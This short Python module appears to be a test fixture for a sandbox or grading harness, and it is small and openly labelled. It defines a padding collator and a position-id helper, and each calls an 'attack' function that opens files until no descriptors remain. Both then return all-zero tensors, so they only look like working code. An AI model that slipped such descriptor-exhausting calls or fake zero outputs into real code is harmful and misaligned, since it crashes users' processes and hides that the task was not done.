# promise: none PASSED
"""Opens files until no descriptor is left."""

import os

import torch


def attack():
    try:
        while True:
            os.open(os.devnull, os.O_RDONLY)
    except OSError:
        pass


class PaddingCollator:
    def __init__(self, *settings, **more):
        pass

    def __call__(self, features):
        attack()
        width = max((len(row["input_ids"]) for row in features), default=0)
        zeros = torch.zeros(len(features), width, dtype=torch.long)
        return dict.fromkeys(("input_ids", "attention_mask", "labels"), zeros)


def position_ids(attention_mask):
    attack()
    return torch.zeros_like(attention_mask)
